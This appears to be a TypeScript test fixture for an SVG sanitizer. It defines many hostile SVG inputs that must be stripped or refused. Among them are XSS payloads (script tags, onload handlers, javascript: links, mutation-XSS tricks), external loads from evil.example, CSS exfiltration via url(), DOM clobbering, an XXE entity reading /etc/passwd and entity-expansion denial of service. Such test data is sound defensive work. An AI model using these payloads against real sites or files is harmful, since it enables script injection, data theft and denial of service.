const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

/** A drawing that asks for the site's colors, so that whatever stands in it may reach the page. */
export const drawing = (inside: string, attributes = '') =>
  `<svg ${NS} viewBox="0 0 400 300" ${attributes}><rect class="fig-box" width="10" height="10"/>${inside}</svg>`

/** Drawings of which something has to be left out, by what they try. What is left is shown. */
export const LEFT_OUT: Readonly<Record<string, string>> = {
  script: drawing('<script>alert(1)</script>'),
  'script in CDATA': drawing('<script><![CDATA[alert(1)]]></script>'),
  'script of another prefix': drawing('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
  'script by reference': drawing('<script xlink:href="https://evil.example/a.js"/>'),
  'HTML script': drawing('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
  'onload of the root': drawing('', 'onload="alert(1)"'),
  'onclick of a shape': drawing('<rect onclick="alert(1)" width="9" height="9"/>'),
  'event in capitals': drawing('<rect ONLOAD="alert(1)" onMouseOver="alert(1)" width="9" height="9"/>'),
  'event with a namespace': drawing('<rect xlink:onload="alert(1)" width="9" height="9"/>'),
  'link that runs': drawing('<a xlink:href="javascript:alert(1)"><text>x</text></a>'),
  'link that runs, without xlink': drawing('<a href="javascript:alert(1)"><text>x</text></a>'),
  'link with a tab': drawing('<a href="java&#9;script:alert(1)"><text>x</text></a>'),
  'image from elsewhere': drawing('<image href="https://evil.example/a.png" width="9" height="9"/>'),
  'image of data': drawing('<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>'),
  feImage: drawing('<filter id="f"><feImage href="https://evil.example/a.png"/></filter><g filter="url(#f)"/>'),
  'use from elsewhere': drawing('<use href="https://evil.example/a.svg#x"/>'),
  'use of data': drawing('<use href="data:image/svg+xml,%3Csvg id=x%3E%3C/svg%3E#x"/>'),
  'use of itself': drawing('<g id="a"><use href="#a"/></g>'),
  'use that grows': drawing(
    Array.from({ length: 20 }, (_, at) => `<g id="u${at + 1}"><use href="#u${at}"/><use href="#u${at}"/></g>`).join(''),
  ),
  'symbol that covers': drawing('<symbol id="s" overflow="visible"><rect width="9999" height="9999"/></symbol>'),
  'style with an import': drawing('<style>@import url(https://evil.example/a.css);</style>'),
  'style of the page': drawing('<style>body{display:none}*{position:fixed}</style>'),
  'style in CDATA': drawing('<style><![CDATA[body{display:none}]]></style>'),
  'style attribute': drawing(
    '<rect style="position:fixed;inset:0;fill:url(https://evil.example/)" width="9" height="9"/>',
  ),
  'style attribute of the root': drawing('', 'style="position:fixed;inset:0;z-index:9"'),
  'classes of the page': drawing('<rect class="sr-only button fig-box dialog" width="9" height="9"/>'),
  'fill from elsewhere': drawing('<rect fill="url(https://evil.example/a.svg#x)" width="9" height="9"/>'),
  'fill from elsewhere, quoted': drawing(`<rect fill="url('//evil.example/a.svg#x')" width="9" height="9"/>`),
  'fill with an escape': drawing('<rect fill="u\\72l(https://evil.example/)" width="9" height="9"/>'),
  'fill with a fallback': drawing('<rect fill="url(#g) url(https://evil.example/)" width="9" height="9"/>'),
  'fill by image-set': drawing('<rect fill="image-set(\'https://evil.example/\' 1x)" width="9" height="9"/>'),
  'fill by a variable': drawing('<rect fill="var(--x,url(https://evil.example/))" width="9" height="9"/>'),
  'clip path from elsewhere': drawing(
    '<g clip-path="url(https://evil.example/a.svg#x)"><rect width="9" height="9"/></g>',
  ),
  'mask from elsewhere': drawing('<rect mask="url(https://evil.example/a.svg#x)" width="9" height="9"/>'),
  'filter from elsewhere': drawing('<rect filter="url(https://evil.example/a.svg#x)" width="9" height="9"/>'),
  'cursor from elsewhere': drawing('<rect cursor="url(https://evil.example/a.cur),auto" width="9" height="9"/>'),
  'marker from elsewhere': drawing('<path d="M0 0h9" marker-end="url(https://evil.example/a.svg#x)"/>'),
  'gradient from elsewhere': drawing(
    '<linearGradient id="g" href="https://evil.example/a.svg#x"><stop offset="0"/></linearGradient><rect fill="url(#g)" width="9" height="9"/>',
  ),
  'color that is none': drawing('<rect fill="expression(alert(1))" width="9" height="9"/>'),
  foreignObject: drawing(
    '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><form action="https://evil.example/"><input/></form></body></foreignObject>',
  ),
  'foreignObject with a frame': drawing(
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
  ),
  'HTML beside shapes': drawing('<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>'),
  'HTML names in SVG': drawing(
    '<iframe src="javascript:alert(1)"/><img src="x" onerror="alert(1)"/><object data="x"/><embed src="x"/><video src="x"/>',
  ),
  'animation of a link': drawing('<a><text>x</text><animate attributeName="href" values="javascript:alert(1)"/></a>'),
  'set of an event': drawing('<rect width="9" height="9"><set attributeName="onmouseover" to="alert(1)"/></rect>'),
  'animation that begins by itself': drawing(
    '<rect width="9" height="9"><animate onbegin="alert(1)" attributeName="x" dur="1s"/></rect>',
  ),
  'title that ends': drawing('<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>'),
  'title in CDATA': drawing('<title><![CDATA[</title><script>alert(1)</script>]]></title>'),
  'desc with HTML': drawing(
    '<desc><p xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></p></desc>',
  ),
  'text that looks like markup': drawing('<text>&lt;/svg&gt;&lt;img src=x onerror=alert(1)&gt;</text>'),
  'text in CDATA': drawing('<text><![CDATA[</text></svg><script>alert(1)</script>]]></text>'),
  'comment that ends': drawing('<!-- > <img src=x onerror=alert(1)> -->'),
  'processing instruction': drawing('<?xml-stylesheet href="https://evil.example/a.css"?>'),
  'style sheet before the root': `<?xml-stylesheet href="https://evil.example/a.css"?>${drawing('')}`,
  'math and its friends': drawing(
    '<math><mtext><table><mglyph><style><img src="x" onerror="alert(1)"/></style></mglyph></table></mtext></math>',
  ),
  noscript: drawing('<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;"/></noscript>'),
  template: drawing('<template><script>alert(1)</script></template>'),
  'ids that clobber': drawing(
    '<g id="location"/><g id="__proto__"/><g id="constructor"/><g id="page-data"/><g name="cookie"/>',
  ),
  'id with a space and quotes': drawing(
    '<linearGradient id="a&quot; onload=&quot;alert(1)"/><rect width="9" height="9"/>',
  ),
  'name of a property of objects': drawing('<rect __proto__="x" constructor="y" toString="z" width="9" height="9"/>'),
  'attributes for React': drawing(
    '<rect dangerouslySetInnerHTML="x" ref="y" key="z" children="w" is="v" width="9" height="9"/>',
  ),
  'element named as a property of objects': drawing('<constructor/><__proto__/><toString/>'),
  'inner svg': drawing('<svg x="-9999" overflow="visible"><rect width="99999" height="99999"/></svg>'),
  switch: drawing('<switch><foreignObject/><text>x</text></switch>'),
  pattern: drawing(
    '<pattern id="p"><image href="https://evil.example/"/></pattern><rect fill="url(#p)" width="9" height="9"/>',
  ),
  audio: drawing('<audio xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/" autoplay="autoplay"/>'),
  handler: drawing('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
  'base and metadata': drawing(
    '<metadata><base href="https://evil.example/"/></metadata>',
    'xml:base="https://evil.example/"',
  ),
  'tabindex and focus': drawing(
    '<rect tabindex="1" focusable="true" autofocus="autofocus" onfocus="alert(1)" width="9" height="9"/>',
  ),
  'names for screen readers': drawing(
    '<rect role="alert" aria-live="assertive" aria-label="Pay here" width="9" height="9"/>',
  ),
  'a marker at each corner': drawing(
    '<marker id="m"><path d="M0 0h9"/></marker><path marker-mid="url(#m)" d="M0 0h9h9h9"/>',
  ),
  'a path of words': drawing('<path d="M0 0 url(https://evil.example/)"/>'),
  'a transform of words': drawing('<g transform="url(https://evil.example/)"><rect width="9" height="9"/></g>'),
}

const inMany = (open: string, close: string, count: number) => open.repeat(count) + close.repeat(count)

/** Files that have to stay pictures as a whole. */
export const REFUSED: Readonly<Record<string, string>> = {
  nothing: '',
  'no XML': 'drawing',
  'an HTML page': '<!doctype html><html><body><svg viewBox="0 0 40 40"><rect class="fig-box"/></svg></body></html>',
  'no namespace': '<svg viewBox="0 0 40 40"><rect class="fig-box" width="9" height="9"/></svg>',
  'another namespace': '<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 40 40"><rect class="fig-box"/></svg>',
  'elements that do not match': drawing('<g><text>x</g></text>'),
  'an element that is not closed': drawing('<g>'),
  'an attribute twice': drawing('<rect width="1" width="2"/>'),
  'an attribute without quotes': drawing('<rect width=1 />'),
  'an unknown prefix': drawing('<x:rect/>'),
  'a second root': `${drawing('')}<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`,
  'text after the root': `${drawing('')}alert(1)`,
  'an unknown entity': drawing('<text>&nbsp;&evil;</text>'),
  'a sign that XML does not know': drawing('<text>&#0;</text>'),
  'entities that grow': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${drawing('<text>&b;</text>')}`,
  'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${drawing('<text>&x;</text>')}`,
  'attributes by the document type': `<!DOCTYPE svg [<!ATTLIST rect onload CDATA "alert(1)">]>${drawing('')}`,
  'a hundred thousand groups in groups': drawing(inMany('<g>', '</g>', 100_000)),
  'a hundred thousand unknown elements in each other': drawing(inMany('<x>', '</x>', 100_000)),
  'a hundred groups in groups': drawing(inMany('<g>', '</g>', 100)),
  'more elements than a figure has': drawing('<path d="M0 0"/>'.repeat(2001)),
  'more elements that are left out': drawing('<x/>'.repeat(2001)),
  'no viewBox': drawing('').replace('viewBox="0 0 400 300"', 'width="400" height="300"'),
  'a viewBox of words': drawing('').replace('0 0 400 300', 'a b c d'),
  'an empty viewBox': drawing('').replace('0 0 400 300', '0 0 0 0'),
  'a viewBox below nothing': drawing('').replace('0 0 400 300', '0 0 -400 -300'),
  'a viewBox without an end': drawing('').replace('0 0 400 300', '0 0 1e99 300'),
  'a viewBox as tall as a tower': drawing('').replace('0 0 400 300', '0 0 16 99999'),
  'a viewBox like a thread': drawing('').replace('0 0 400 300', '0 0 1 4000'),
  'a viewBox that is no number': drawing('').replace('0 0 400 300', '0 0 NaN Infinity'),
  'nothing to see': `<svg ${NS} viewBox="0 0 400 300" class="fig-ink"><script>alert(1)</script></svg>`,
  'only definitions': `<svg ${NS} viewBox="0 0 400 300"><defs><path class="fig-line" d="M0 0h9"/></defs></svg>`,
  'colors of its own alone': `<svg ${NS} viewBox="0 0 400 300"><rect fill="#fff" width="400" height="300"/></svg>`,
}
